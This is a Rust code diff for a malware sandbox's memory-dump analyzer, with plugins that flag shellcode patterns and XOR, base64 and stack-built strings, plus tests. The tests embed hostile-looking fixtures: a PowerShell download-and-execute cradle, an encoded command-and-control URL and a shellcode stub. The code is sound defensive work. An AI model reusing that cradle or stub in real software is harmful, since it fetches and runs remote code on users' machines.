+            let key = at(length - 1)?;
+            let window = code.get(offset + length..(offset + length + 16).min(code.len()))?;
+            let closes_loop = window.windows(2).any(|pair| pair[0] == 0xe2 || (pair[0] == 0x75 && pair[1] >= 0x80));
+            (key != 0 && closes_loop).then_some(Indicator { offset, kind: "xor_decoder", confidence: 0.7, key: Some(key), x64: false })
+        }
+        _ => None,
+    }
+}
+
+fn shellcode_indicators(code: &[u8]) -> Vec<Indicator> {
+    let mut indicators = Vec::new();
+    let mut offset = 0;
+    while offset < code.len() {
+        match indicator_at(code, offset) {
+            Some(indicator) => {
+                offset += if indicator.kind == "nop_sled" { code[offset..].iter().take_while(|&&b| b == 0x90).count() } else { 1 };
+                indicators.push(indicator);
+            }
+            None => offset += 1,
+        }
+    }
+    indicators
+}
+
+/// End of the payload that starts at `start`: the first 16 zero bytes in a row
+fn payload_end(code: &[u8], start: usize) -> usize {
+    let limit = code.len().min(start + MAX_SHELLCODE_BYTES);
+    let mut zeros = 0;
+    for (offset, &byte) in code.iter().enumerate().take(limit).skip(start) {
+        zeros = if byte == 0 { zeros + 1 } else { 0 };
+        if zeros == 16 {
+            return offset + 1 - zeros;
+        }
+    }
+    limit
+}
+
+/// GetPC stubs, PEB walks, API hashing, NOP sleds and decoder loops in unbacked memory
+pub struct ShellcodeScanPlugin;
+
+impl MemoryPlugin for ShellcodeScanPlugin {
+    fn name(&self) -> &'static str {
+        "shellcode"
+    }
+
+    fn run(&self, image: &MemoryImage<'_>, report: &mut MemoryDumpReport) -> Result<String, String> {
+        for (base, code) in image.unbacked_memory(true) {
+            let indicators = shellcode_indicators(code);
+            let mut clusters: Vec<Vec<Indicator>> = Vec::new();
+            for indicator in indicators {
+                match clusters.last_mut() {
+                    Some(cluster) if indicator.offset - cluster.last().expect("clusters are never empty").offset <= SHELLCODE_CLUSTER_SPAN => cluster.push(indicator),
+                    _ => clusters.push(vec![indicator]),
+                }
+            }
+            for cluster in clusters {
+                let confidence = 1.0 - cluster.iter().map(|i| 1.0 - i.confidence).product::<f64>();
+                if confidence < MIN_SHELLCODE_CONFIDENCE || report.shellcode_detection.len() >= MAX_FINDINGS {
+                    continue;
+                }
+                let start = cluster[0].offset;
+                let end = payload_end(code, cluster.last().expect("clusters are never empty").offset).max(start + 1);
+                let mut kinds: Vec<&str> = Vec::new();
+                for indicator in &cluster {
+                    if !kinds.contains(&indicator.kind) {
+                        kinds.push(indicator.kind);
+                    }
+                }
+                let architecture = match cluster.iter().any(|i| i.x64) {
+                    true => Architecture::X64,
+                    false if image.architecture == Architecture::Unknown => Architecture::X86,
+                    false => image.architecture,
+                };
+                // Disassemble past a sled, where the payload starts
+                let code_start = match cluster[0].kind {
+                    "nop_sled" => cluster.get(1).map_or(start, |next| next.offset),
+                    _ => start,
+                };
+                let address = base + start as u64;
+                report.shellcode_detection.push(ShellcodeDetection {
+                    address: format!("0x{:x}", address),
+                    size: (end - start) as u64,
+                    shellcode_type: kinds.join("+"),
+                    payload: hex(&code[start..end.min(start + 64)]),
+                    encoding: cluster.iter().find_map(|i| i.key).map(|key| format!("xor:0x{:02x}", key)),
+                    confidence: confidence.min(0.99),
+                    disassembly: disassemble(&code[code_start..end.max(code_start)], base + code_start as u64, architecture),
+                });
+            }
+        }
+        Ok(format!("{} shellcode candidates", report.shellcode_detection.len()))
+    }
+}
+
+/// Strings hidden with single-byte XOR, base64 or built on the stack
+pub struct StringScanPlugin;
+
+impl StringScanPlugin {
+    fn xor_strings(base: u64, data: &[u8], image: &MemoryImage<'_>, found: &mut Vec<ObfuscatedString>) {
+        let mut offset = 0;
+        while offset < data.len() && found.len() < MAX_FINDINGS {
+            // XOR of two encoded bytes equals the XOR of their plaintext, whatever the key
+            let hit = XOR_MARKERS.iter().find(|marker| {
+                data.get(offset..offset + marker.len()).is_some_and(|window| {
+                    window[0] != marker[0] && window.iter().zip(marker.iter()).all(|(&b, &m)| b ^ window[0] == m ^ marker[0])
+                })
+            });
+            let Some(marker) = hit else {
+                offset += 1;
+                continue;
+            };
+            let key = data[offset] ^ marker[0];
+            // Unencoded padding is not part of the string
+            let decodes = |b: &u8| *b != 0 && is_printable(b ^ key);
+            let start = offset - data[..offset].iter().rev().take_while(|b| decodes(b)).count();
+            let end = offset + data[offset..].iter().take_while(|b| decodes(b)).count();
+            let encoded = &data[start..end];
+            // 0x20 only flips case, e.g. `HTTP://` in plain text
+            if end - start >= MIN_DECODED_LENGTH && key != 0x20 {
+                found.push(ObfuscatedString {
+                    obfuscated_form: hex(&encoded[..encoded.len().min(64)]),
+                    deobfuscated_form: encoded.iter().map(|&b| (b ^ key) as char).collect(),
+                    obfuscation_method: format!("xor:0x{:02x}", key),
+                    confidence: 0.8,
+                    context: image.describe(base + start as u64),
+                });
+            }
+            offset = end.max(offset + 1);
+        }
+    }
+
+    fn base64_strings(base: u64, data: &[u8], image: &MemoryImage<'_>, found: &mut Vec<ObfuscatedString>) {
+        let is_base64 = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/');
+        let mut offset = 0;
+        for run in data.split(|b| !is_base64(b)) {
+            let start = offset;
+            offset += run.len() + 1;
+            // Runs that spell out the alphabet are decoder tables, not payloads
+            if run.len() < MIN_BASE64_LENGTH || run.windows(16).any(|w| w == b"ABCDEFGHIJKLMNOP") || found.len() >= MAX_FINDINGS {
+                continue;
+            }
+            let decoded = decode_base64(run);
+            // PowerShell -EncodedCommand is UTF-16LE
+            let text: Vec<u8> = if decoded.len() >= 4 && decoded.iter().skip(1).step_by(2).all(|&b| b == 0) {
+                decoded.iter().step_by(2).copied().collect()
+            } else {
+                decoded
+            };
+            if text.len() >= MIN_DECODED_LENGTH && text.iter().all(|&b| is_printable(b) || b == b'\r' || b == b'\n') && text.iter().any(u8::is_ascii_alphabetic) {
+                found.push(ObfuscatedString {
+                    obfuscated_form: String::from_utf8_lossy(&run[..run.len().min(256)]).into_owned(),
+                    deobfuscated_form: String::from_utf8_lossy(&text).into_owned(),
+                    obfuscation_method: "base64".to_string(),
+                    confidence: 0.6,
+                    context: image.describe(base + start as u64),
+                });
+            }
+        }
+    }
+
+    /// Bytes moved one at a time into consecutive stack slots:
+    /// `mov byte [ebp+d], imm8` (c6 45 d i) or `mov byte [esp+d], imm8` (c6 44 24 d i)
+    fn stack_strings(base: u64, data: &[u8], image: &MemoryImage<'_>, found: &mut Vec<ObfuscatedString>) {
+        let store = |offset: usize| -> Option<(usize, u8, u8)> {
+            match data.get(offset..offset + 5)? {
+                [0xc6, 0x45, disp, value, _] => Some((4, *disp, *value)),
+                [0xc6, 0x44, 0x24, disp, value] => Some((5, *disp, *value)),
+                _ => None,
+            }
+        };
+        let mut offset = 0;
+        while offset < data.len() && found.len() < MAX_FINDINGS {
+            let Some((length, first_disp, _)) = store(offset) else {
+                offset += 1;
+                continue;
+            };
+            let mut text = Vec::new();
+            let mut cursor = offset;
+            let mut expected = first_disp;
+            while let Some((len, disp, value)) = store(cursor) {
+                if disp != expected || !(is_printable(value) || value == 0) {
+                    break;
+                }
+                text.push(value);
+                cursor += len;
+                expected = expected.wrapping_add(1);
+                if value == 0 {
+                    break;
+                }
+            }
+            if text.last() == Some(&0) {
+                text.pop();
+            }
+            if text.len() >= MIN_STRING_LENGTH {
+                found.push(ObfuscatedString {
+                    obfuscated_form: hex(&data[offset..cursor.min(offset + 64)]),
+                    deobfuscated_form: String::from_utf8_lossy(&text).into_owned(),
+                    obfuscation_method: "stack_string".to_string(),
+                    confidence: 0.7,
+                    context: image.describe(base + offset as u64),
+                });
+                offset = cursor;
+            } else {
+                offset += length;
+            }
+        }
+    }
+}
+
+impl MemoryPlugin for StringScanPlugin {
+    fn name(&self) -> &'static str {
+        "strings"
+    }
+
+    fn run(&self, image: &MemoryImage<'_>, report: &mut MemoryDumpReport) -> Result<String, String> {
+        let mut found = Vec::new();
+        for (base, data) in image.unbacked_memory(false) {
+            Self::xor_strings(base, data, image, &mut found);
+            Self::base64_strings(base, data, image, &mut found);
+            Self::stack_strings(base, data, image, &mut found);
+        }
+        let summary = ["xor", "base64", "stack_string"]
+            .iter()
+            .map(|method| (method, found.iter().filter(|s| s.obfuscation_method.starts_with(method)).count()))
+            .map(|(method, count)| format!("{} {}", count, method))
+            .collect::<Vec<_>>()
+            .join(", ");
+        report.obfuscated_strings.extend(found);
+        Ok(summary)
+    }
+}
+
+// Analyzer
+
+/// Runs its plugins in order over each dump it is given
+#[derive(Clone)]
+pub struct MemoryAnalyzer {
+    plugins: Vec<Arc<dyn MemoryPlugin>>,
+}
+
+impl Default for MemoryAnalyzer {
+    fn default() -> Self {
+        Self {
+            plugins: vec![
+                Arc::new(ProcessListPlugin),
+                Arc::new(DllListPlugin),
+                Arc::new(InjectedRegionPlugin),
+                Arc::new(ShellcodeScanPlugin),
+                Arc::new(StringScanPlugin),
+            ],
+        }
+    }
+}
+
+impl MemoryAnalyzer {
+    /// Add a plugin, replacing a built-in one of the same name
+    pub fn with_plugin(mut self, plugin: Arc<dyn MemoryPlugin>) -> Self {
+        self.plugins.retain(|existing| existing.name() != plugin.name());
+        self.plugins.push(plugin);
+        self
+    }
+
+    pub fn plugin_names(&self) -> Vec<&'static str> {
+        self.plugins.iter().map(|plugin| plugin.name()).collect()
+    }
+
+    /// Parse `data` and run every plugin; a failing plugin is recorded and skipped
+    pub fn analyze(&self, data: &[u8], options: &DumpOptions) -> Result<MemoryDumpReport, String> {
+        let image = MemoryImage::parse(data, options)?;
+        let mut report = MemoryDumpReport::new(&image, data);
+        for plugin in &self.plugins {
+            match plugin.run(&image, &mut report) {
+                Ok(summary) => report.plugin_results.push(format!("{}: {}", plugin.name(), summary)),
+                Err(e) => report.errors.push(format!("{}: {}", plugin.name(), e)),
+            }
+        }
+        Ok(report)
+    }
+}
+
+impl SandboxCore {
+    /// Register a memory plugin for all later dump analyses
+    pub fn add_memory_plugin(&self, plugin: Arc<dyn MemoryPlugin>) -> CoreResult<()> {
+        let mut analyzer = self.memory_analyzer.write().map_err(|e| CoreError::backend(e.to_string()))?;
+        *analyzer = analyzer.clone().with_plugin(plugin);
+        Ok(())
+    }
+
+    pub fn memory_plugins(&self) -> Vec<&'static str> {
+        self.memory_analyzer.read().map(|analyzer| analyzer.plugin_names()).unwrap_or_default()
+    }
+
+    /// Run the memory plugins over one dump off the async runtime; the dump is handed back
+    pub(crate) async fn run_memory_plugins(&self, data: Vec<u8>, options: DumpOptions) -> (CoreResult<MemoryDumpReport>, Vec<u8>) {
+        let analyzer = match self.memory_analyzer.read() {
+            Ok(analyzer) => analyzer.clone(),
+            Err(e) => return (Err(CoreError::backend(e.to_string())), data),
+        };
+        let task = tokio::task::spawn_blocking(move || {
+            let report = analyzer.analyze(&data, &options).map_err(CoreError::validation);
+            (report, data)
+        });
+        match task.await {
+            Ok(result) => result,
+            Err(e) => (Err(CoreError::backend(format!("Memory analysis task failed: {}", e))), Vec::new()),
+        }
+    }
+
+    /// Analyze a dump outside of a detonation, e.g. one taken on a live host
+    pub async fn analyze_memory_dump(&self, data: Vec<u8>, options: DumpOptions) -> CoreResult<MemoryDumpReport> {
+        self.run_memory_plugins(data, options).await.0
+    }
+}
+
+#[napi]
+impl SandboxCoreNapi {
+    /// Run the memory plugins over a minidump or raw process dump; options
+    /// (`{"process_id": 4312, "process_name": "notepad.exe", "base_address": 0}`)
+    /// describe raw dumps
+    #[napi]
+    pub async fn analyze_memory_dump(&self, dump: Buffer, options_json: Option<String>, auth_token: Option<String>) -> napi::Result<String> {
+        let actor = self.authorize(auth_token, "analysis:submit", "memory_dump")?;
+        let options: DumpOptions = match options_json.as_deref() {
+            Some(json) => serde_json::from_str(json)
+                .map_err(|e| napi::Error::from_reason(format!("Failed to parse dump options: {}", e)))?,
+            None => DumpOptions::default(),
+        };
+        let size = dump.len();
+        let report = self.inner.analyze_memory_dump(dump.to_vec(), options).await;
+        let report = self.audit.record(&actor, "analyze_memory_dump", "memory_dump", serde_json::json!({ "bytes": size }), report)
+            .map_err(|e| e.context("Failed to analyze memory dump"))?;
+        serde_json::to_string(&report)
+            .map_err(|e| napi::Error::from_reason(format!("Failed to serialize memory dump report: {}", e)))
+    }
+
+    #[napi]
+    pub fn list_memory_plugins(&self) -> Vec<String> {
+        self.inner.memory_plugins().into_iter().map(str::to_string).collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Minidump builder with a module list, captured ranges and region info
+    struct Minidump {
+        streams: Vec<(u32, Vec<u8>)>,
+        blobs: Vec<u8>,
+    }
+
+    const STREAMS_AT: usize = 32;
+    const BLOBS_AT: usize = 0x1000;
+
+    impl Minidump {
+        fn new() -> Self {
+            Self { streams: Vec::new(), blobs: Vec::new() }
+        }
+
+        /// Append data after the streams, returning its RVA
+        fn blob(&mut self, data: &[u8]) -> u32 {
+            let rva = (BLOBS_AT + self.blobs.len()) as u32;
+            self.blobs.extend_from_slice(data);
+            rva
+        }
+
+        fn build(self, with_modules: &[(u64, u32, &str)], ranges: &[(u64, Vec<u8>)], regions: &[(u64, u64, u32, u32)], pid: u32) -> Vec<u8> {
+            let mut dump = self;
+            let mut modules = (with_modules.len() as u32).to_le_bytes().to_vec();
+            for (base, size, path) in with_modules {
+                let name: Vec<u8> = path.encode_utf16().flat_map(u16::to_le_bytes).collect();
+                let mut string = (name.len() as u32).to_le_bytes().to_vec();
+                string.extend(name);
+                let rva = dump.blob(&string);
+                let mut entry = vec![0u8; MINIDUMP_MODULE_SIZE];
+                entry[..8].copy_from_slice(&base.to_le_bytes());
+                entry[8..12].copy_from_slice(&size.to_le_bytes());
+                entry[20..24].copy_from_slice(&rva.to_le_bytes());
+                modules.extend(entry);
+            }
+            let mut memory = (ranges.len() as u32).to_le_bytes().to_vec();
+            for (base, data) in ranges {
+                let rva = dump.blob(data);
+                memory.extend(base.to_le_bytes());
+                memory.extend((data.len() as u32).to_le_bytes());
+                memory.extend(rva.to_le_bytes());
+            }
+            let mut info = [16u32.to_le_bytes(), 48u32.to_le_bytes()].concat();
+            info.extend((regions.len() as u64).to_le_bytes());
+            for (base, size, protection, kind) in regions {
+                let mut entry = vec![0u8; 48];
+                entry[..8].copy_from_slice(&base.to_le_bytes());
+                entry[8..16].copy_from_slice(&base.to_le_bytes());
+                entry[24..32].copy_from_slice(&size.to_le_bytes());
+                entry[32..36].copy_from_slice(&MEM_COMMIT.to_le_bytes());
+                entry[36..40].copy_from_slice(&protection.to_le_bytes());
+                entry[40..44].copy_from_slice(&kind.to_le_bytes());
+                info.extend(entry);
+            }
+            let misc = [24u32, MISC1_PROCESS_ID, pid, 0, 0, 0].iter().flat_map(|v| v.to_le_bytes()).collect();
+            let system = [PROCESSOR_ARCHITECTURE_AMD64.to_le_bytes().to_vec(), vec![0; 54]].concat();
+            let threads = 3u32.to_le_bytes().to_vec();
+            dump.streams = vec![
+                (MODULE_LIST_STREAM, modules),
+                (MEMORY_LIST_STREAM, memory),
+                (MEMORY_INFO_LIST_STREAM, info),
+                (MISC_INFO_STREAM, misc),
+                (SYSTEM_INFO_STREAM, system),
+                (THREAD_LIST_STREAM, threads),
+            ];
+
+            let directory_size = dump.streams.len() * 12;
+            let mut out = b"MDMP".to_vec();
+            out.extend(0xa793u32.to_le_bytes());
+            out.extend((dump.streams.len() as u32).to_le_bytes());
+            out.extend((STREAMS_AT as u32).to_le_bytes());
+            out.extend([0u8; 16]);
+            let mut stream_data: Vec<u8> = Vec::new();
+            let mut directory = Vec::new();
+            for (kind, data) in &dump.streams {
+                let rva = (STREAMS_AT + directory_size + stream_data.len()) as u32;
+                directory.extend(kind.to_le_bytes());
+                directory.extend((data.len() as u32).to_le_bytes());
+                directory.extend(rva.to_le_bytes());
+                stream_data.extend(data);
+            }
+            out.extend(directory);
+            out.extend(stream_data);
+            assert!(out.len() <= BLOBS_AT, "streams overlap the blob area");
+            out.resize(BLOBS_AT, 0);
+            out.extend(dump.blobs);
+            out
+        }
+    }
+
+    fn pe_image(size: usize, export_name: Option<&str>) -> Vec<u8> {
+        let mut image = vec![0u8; size];
+        image[..2].copy_from_slice(b"MZ");
+        image[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
+        image[0x80..0x84].copy_from_slice(b"PE\0\0");
+        image[0x84..0x86].copy_from_slice(&IMAGE_FILE_MACHINE_AMD64.to_le_bytes());
+        let optional = 0x80 + 24;
+        image[optional..optional + 2].copy_from_slice(&0x20bu16.to_le_bytes());
+        image[optional + 16..optional + 20].copy_from_slice(&0x400u32.to_le_bytes());
+        image[optional + 56..optional + 60].copy_from_slice(&(size as u32).to_le_bytes());
+        if let Some(name) = export_name {
+            image[optional + 112..optional + 116].copy_from_slice(&0x300u32.to_le_bytes());
+            image[0x30c..0x310].copy_from_slice(&0x340u32.to_le_bytes());
+            image[0x340..0x340 + name.len()].copy_from_slice(name.as_bytes());
+        }
+        image
+    }
+
+    fn shellcode() -> Vec<u8> {
+        let mut code = vec![0x90; 40];
+        // mov rax, gs:[0x60]; ror r9d, 0xd; xor byte [rax], 0x5a; inc rax; loop -7
+        code.extend([0x65, 0x48, 0x8b, 0x04, 0x25, 0x60, 0x00, 0x00, 0x00]);
+        code.extend([0x41, 0xc1, 0xc9, 0x0d]);
+        code.extend([0x80, 0x30, 0x5a, 0x48, 0xff, 0xc0, 0xe2, 0xf9]);
+        code.extend(b"\xc3LoadLibraryA\0VirtualAlloc\0");
+        code.resize(PAGE_SIZE, 0);
+        code
+    }
+
+    fn base64(data: &[u8]) -> Vec<u8> {
+        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let mut out = Vec::new();
+        for chunk in data.chunks(3) {
+            let bits = chunk.iter().enumerate().fold(0u32, |acc, (i, &b)| acc | (b as u32) << (16 - 8 * i));
+            for i in 0..=chunk.len() {
+                out.push(ALPHABET[(bits >> (18 - 6 * i)) as usize & 0x3f]);
+            }
+        }
+        out
+    }
+
+    fn xor(text: &[u8], key: u8) -> Vec<u8> {
+        text.iter().map(|b| b ^ key).collect()
+    }
+
+    #[test]
+    fn minidump_plugins_find_injected_code_shellcode_and_strings() {
+        let mut heap = vec![0u8; PAGE_SIZE];
+        let encoded = xor(b"http://c2.example.net/gate.php", 0x5a);
+        heap[0x10..0x10 + encoded.len()].copy_from_slice(&encoded);
+        let command = "IEX (New-Object Net.WebClient).DownloadString('http://x')";
+        let utf16: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let encoded_command = base64(&utf16);
+        heap[0x200..0x200 + encoded_command.len()].copy_from_slice(&encoded_command);
+        heap[0x600..0x600 + alphabet.len()].copy_from_slice(alphabet);
+        // mov byte [ebp-0x10..], "cmd.exe\0"
+        let stack: Vec<u8> = b"cmd.exe\0".iter().enumerate().flat_map(|(i, &c)| [0xc6, 0x45, 0xf0 + i as u8, c]).collect();
+        heap[0x800..0x800 + stack.len()].copy_from_slice(&stack);
+
+        let dump = Minidump::new().build(
+            &[(0x7ff6_0000_0000, 0x2000, "C:\\Windows\\notepad.exe"), (0x7ffe_0000_0000, 0x2000, "C:\\Windows\\System32\\ntdll.dll")],
+            &[
+                (0x7ff6_0000_0000, pe_image(0x2000, None)),
+                (0x1d0_0000, pe_image(PAGE_SIZE, Some("beacon.dll"))),
+                (0x1e0_0000, shellcode()),
+                (0x1f0_0000, heap),
+                (0x7ffd_0000_0000, pe_image(PAGE_SIZE, Some("hidden.dll"))),
+            ],
+            &[
+                (0x7ff6_0000_0000, 0x2000, PAGE_EXECUTE_READ, MEM_IMAGE),
+                (0x1d0_0000, PAGE_SIZE as u64, PAGE_EXECUTE_READWRITE, MEM_PRIVATE),
+                (0x1e0_0000, PAGE_SIZE as u64, PAGE_EXECUTE_READWRITE, MEM_PRIVATE),
+                (0x1f0_0000, PAGE_SIZE as u64, 0x04, MEM_PRIVATE),
+                (0x7ffd_0000_0000, PAGE_SIZE as u64, PAGE_EXECUTE_READ, MEM_IMAGE),
+            ],
+            4312,
+        );
+
+        let report = MemoryAnalyzer::default().analyze(&dump, &DumpOptions::default()).unwrap();
+        assert_eq!(report.format, DumpFormat::Minidump);
+        assert_eq!(report.architecture, Architecture::X64);
+        assert_eq!(report.processes.len(), 1);
+        assert_eq!(report.processes[0].process_id, 4312);
+        assert_eq!(report.processes[0].name, "notepad.exe");
+        assert_eq!(report.processes[0].threads, 3);
+        let hidden = report.modules.iter().find(|m| m.source == ModuleSource::PeHeader).unwrap();
+        assert_eq!(hidden.name, "hidden.dll");
+        assert_eq!(report.modules.len(), 3);
+
+        let types: Vec<&str> = report.injected_code.iter().map(|code| code.code_type.as_str()).collect();
+        assert_eq!(types, ["pe_image", "shellcode"]);
+        assert_eq!(report.injected_code[0].address, "0x1d00000");
+        assert_eq!(report.injected_code[1].api_calls, ["LoadLibraryA", "VirtualAlloc"]);
+        assert!(!report.injected_code[1].disassembly.is_empty());
+
+        assert_eq!(report.shellcode_detection.len(), 1, "{:?}", report.shellcode_detection);
+        let shellcode = &report.shellcode_detection[0];
+        assert_eq!(shellcode.address, "0x1e00000");
+        assert_eq!(shellcode.shellcode_type, "nop_sled+peb_access+api_hashing+xor_decoder");
+        assert_eq!(shellcode.encoding.as_deref(), Some("xor:0x5a"));
+        assert!(shellcode.confidence > 0.9);
+        #[cfg(feature = "disassembly")]
+        assert_eq!(shellcode.disassembly[0], "0x1e00028: mov rax, qword ptr gs:[0x60]");
+        #[cfg(not(feature = "disassembly"))]
+        assert!(shellcode.disassembly[0].starts_with("0x1e00028: db 0x65, 0x48"));
+
+        let strings: Vec<(&str, &str)> = report
+            .obfuscated_strings
+            .iter()
+            .map(|s| (s.obfuscation_method.as_str(), s.deobfuscated_form.as_str()))
+            .collect();
+        assert!(strings.contains(&("xor:0x5a", "http://c2.example.net/gate.php")), "{:?}", strings);
+        assert!(strings.contains(&("base64", command)), "{:?}", strings);
+        assert!(strings.contains(&("stack_string", "cmd.exe")), "{:?}", strings);
+        assert!(!strings.iter().any(|(_, text)| text.contains("ABCDEFGHIJKLMNOP")));
+        assert!(report.obfuscated_strings[0].context.contains("private memory"));
+
+        let memory_dump = report.to_memory_dump(Utc::now());
+        assert_eq!(memory_dump.process_id, 4312);
+        assert_eq!(memory_dump.suspicious_regions, 2);
+        assert!(memory_dump.analysis_results.iter().any(|line| line == "malfind: 2 injected regions"));
+    }
+
+    #[test]
+    fn raw_dump_finds_modules_by_header_and_scans_unbacked_memory() {
+        let base = 0x40_0000u64;
+        let mut data = pe_image(2 * PAGE_SIZE, Some("loader.exe"));
+        // An image's own code may walk the PEB; only memory outside images is scanned
+        data[0x400..0x406].copy_from_slice(&[0x64, 0xa1, 0x30, 0x00, 0x00, 0x00]);
+        let mut tail = vec![0u8; PAGE_SIZE];
+        tail[0x100..0x10c].copy_from_slice(&[0xe8, 0x00, 0x00, 0x00, 0x00, 0x5d, 0x64, 0xa1, 0x30, 0x00, 0x00, 0x00]);
+        data.extend(tail);
+
+        let options = DumpOptions { base_address: base, ..DumpOptions::from_path("memory\\loader.exe_2044.bin") };
+        let report = MemoryAnalyzer::default().analyze(&data, &options).unwrap();
+        assert_eq!(report.format, DumpFormat::Raw);
+        assert_eq!(report.processes[0].process_id, 2044);
+        assert_eq!(report.processes[0].name, "loader.exe");
+        assert_eq!(report.modules.len(), 1);
+        assert_eq!(report.modules[0].name, "loader.exe");
+        assert_eq!(report.architecture, Architecture::X64);
+        assert!(report.injected_code.is_empty());
+        assert_eq!(report.shellcode_detection.len(), 1);
+        assert_eq!(report.shellcode_detection[0].address, format!("0x{:x}", base + 2 * PAGE_SIZE as u64 + 0x100));
+        assert_eq!(report.shellcode_detection[0].shellcode_type, "getpc+peb_access");
+
+        assert!(MemoryAnalyzer::default().analyze(b"MDMP\x93\xa7\0\0\x05\0\0\0", &DumpOptions::default()).is_err());
+    }
+
+    struct CountingPlugin;
+
+    impl MemoryPlugin for CountingPlugin {
+        fn name(&self) -> &'static str {
+            "pslist"
+        }
+
+        fn run(&self, image: &MemoryImage<'_>, _report: &mut MemoryDumpReport) -> Result<String, String> {
+            Err(format!("{} ranges", image.ranges.len()))
+        }
+    }
+
+    #[tokio::test]
+    async fn plugins_can_be_replaced_and_failures_are_recorded() {
+        let core = SandboxCore::new().unwrap();
+        core.add_memory_plugin(Arc::new(CountingPlugin)).unwrap();
+        assert_eq!(core.memory_plugins(), ["dlllist", "malfind", "shellcode", "strings", "pslist"]);
+
+        let report = core.analyze_memory_dump(vec![0u8; 64], DumpOptions::default()).await.unwrap();
+        assert_eq!(report.errors, ["pslist: 1 ranges"]);
+        assert!(report.processes.is_empty());
+    }
+}